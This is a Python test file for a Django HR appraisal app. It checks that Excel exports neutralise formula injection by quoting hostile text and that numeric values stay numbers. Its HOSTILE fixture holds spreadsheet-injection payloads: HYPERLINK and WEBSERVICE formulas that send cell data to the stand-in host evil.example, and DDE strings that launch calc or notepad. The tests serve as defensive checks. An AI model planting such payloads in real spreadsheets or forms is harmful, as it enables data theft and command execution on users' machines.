"""No export runs anything: formula-like text typed into any free-text field (自我评价, 上级评语, a rating's
comment, the interview's texts and 员工意见, a pay adjustment's reason, names of people, departments and
positions, the company name) comes out of the scorecard, summary and pay sheet workbooks as a text cell
with a leading single quote, never as a formula; numbers stay numbers.

The company is tests/web/api_org.py; 艾运营 (emp) carries the hostile texts and her review is published.
"""

from __future__ import annotations

from datetime import date
from decimal import Decimal
from io import BytesIO
from typing import Any

import api_org
import pytest
from django.test import Client
from django.utils import timezone
from openpyxl import load_workbook

from shopkpi.appraisal.models import Department, Interview, PayAdjustment, Position, Rating, Review
from shopkpi.appraisal.reviews.review_scoring import recompute

pytestmark = pytest.mark.django_db

# what a spreadsheet would run: a formula, DDE through a sign, arithmetic, a function by @, a tab and a CR first
HOSTILE = {
    "self_assessment": '=HYPERLINK("http://evil.example/steal?d="&B2,"详情")',
    "supervisor_comment": "+1+cmd|' /C calc'!A0",
    "comment": "-2+3+cmd|' /C notepad'!A0",
    "strengths": "@SUM(1+1)*cmd|' /C calc'!A0",
    "improvements": "\t=1+1",
    "plan": "\r=1+1",
    "employee_response": "=1+1",
    "reason": '=WEBSERVICE("http://evil.example/"&A2)',
    "name": '=HYPERLINK("http://evil.example")',
    "department": "+运营部",
    "position": "@运营专员",
    "company": "=公司",
}
RUNS = ("=", "+", "-", "@", "\t", "\r", "\n")  # \r may come back as \n from the XML


@pytest.fixture
def org(settings: Any) -> api_org.Org:
    settings.SHOPKPI_COMPANY_NAME = HOSTILE["company"]
    org = api_org.build(hash_passwords=False)
    review = org.reviews["emp"]
    employee = review.employee
    employee.name = HOSTILE["name"]
    employee.department = Department.objects.create(name=HOSTILE["department"])
    employee.position = Position.objects.create(name=HOSTILE["position"], template_id="api-test")
    employee.save()
    Rating.objects.create(
        review=review,
        item_key="attitude",
        rater="supervisor",
        value=Decimal(80),
        comment=HOSTILE["comment"],
        rated_by=org.users["mgr"],
    )
    Interview.objects.create(
        review=review,
        held_on=date(2026, 4, 2),
        strengths=HOSTILE["strengths"],
        improvements=HOSTILE["improvements"],
        plan=HOSTILE["plan"],
        employee_response=HOSTILE["employee_response"],
        recorded_by=org.users["mgr"],
    )
    review.self_assessment = HOSTILE["self_assessment"]
    review.supervisor_comment = HOSTILE["supervisor_comment"]
    review.submitted_self_at = timezone.now()
    review.save()
    recompute(review)
    # a deduction: its amount must stay a (negative) number
    PayAdjustment.objects.create(
        review=review, amount=Decimal("-100.00"), reason=HOSTILE["reason"], created_by=org.users["hr"]
    )
    Review.objects.filter(pk=review.pk).update(status=Review.Status.PUBLISHED, published_at=timezone.now())
    return org


def _client(org: api_org.Org, who: str) -> Client:
    client = Client()
    client.force_login(org.users[who])
    return client


def _cells(content: bytes) -> list[Any]:
    book = load_workbook(BytesIO(content))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def _assert_nothing_runs(content: bytes) -> list[str]:
    """Every cell is a number, a date, empty or text that does not start like a formula; the texts."""
    cells = _cells(content)
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    texts = [cell.value for cell in cells if isinstance(cell.value, str)]
    assert not [text for text in texts if text.startswith(RUNS)]
    return texts


def _quoted(texts: list[str], *keys: str) -> None:
    for key in keys:
        hostile = HOSTILE[key].replace("\r", "\n")
        assert any(text.replace("\r", "\n") == "'" + hostile for text in texts), key


def test_the_scorecard_workbook(org: api_org.Org) -> None:
    review = org.reviews["emp"]
    for who in ("emp", "hr", "mgr"):
        response = _client(org, who).get(f"/reviews/{review.pk}/xlsx/")
        assert response.status_code == 200
        texts = _assert_nothing_runs(response.content)
        _quoted(texts, "name", "department", "position", "self_assessment", "supervisor_comment", "comment")
        _quoted(texts, "strengths", "improvements", "plan", "employee_response")
    sheet = load_workbook(BytesIO(response.content)).active
    assert sheet is not None
    assert sheet["I7"].value == 32 and sheet["I7"].data_type == "n"  # 40 × 80 / 100: a number


def test_the_summary_workbook(org: api_org.Org) -> None:
    response = _client(org, "hr").post(f"/hr/cycles/{api_org.PERIOD}/summary.xlsx")
    assert response.status_code == 200
    _quoted(_assert_nothing_runs(response.content), "name", "department", "position")


def test_the_pay_sheet(org: api_org.Org) -> None:
    response = _client(org, "hr").post(f"/hr/cycles/{api_org.PERIOD}/paysheet.xlsx")
    assert response.status_code == 200
    texts = _assert_nothing_runs(response.content)
    _quoted(texts, "name", "department", "position")
    assert any(text.endswith(HOSTILE["reason"]) for text in texts)
    sheet = load_workbook(BytesIO(response.content)).active
    assert sheet is not None
    header = [str(cell.value or "") for cell in sheet[3]]  # below the title and the note
    line = next(row for row in sheet.iter_rows(min_row=4) if row[0].value == "E012")
    adjustment = line[next(n for n, text in enumerate(header) if text.startswith("奖惩"))]
    assert adjustment.value == -100 and adjustment.data_type == "n"


def test_the_lists(org: api_org.Org) -> None:
    hr = _client(org, "hr")
    for path in (f"/hr/cycles/{api_org.PERIOD}/reviews.xlsx", "/hr/audit.xlsx"):
        response = hr.post(path)
        assert response.status_code == 200
        texts = _assert_nothing_runs(response.content)
        if "reviews" in path:
            _quoted(texts, "name", "department", "position")
    response = _client(org, "gm").post("/gm/approvals.xlsx?state=all")
    assert response.status_code == 200
    _quoted(_assert_nothing_runs(response.content), "name", "department", "position")
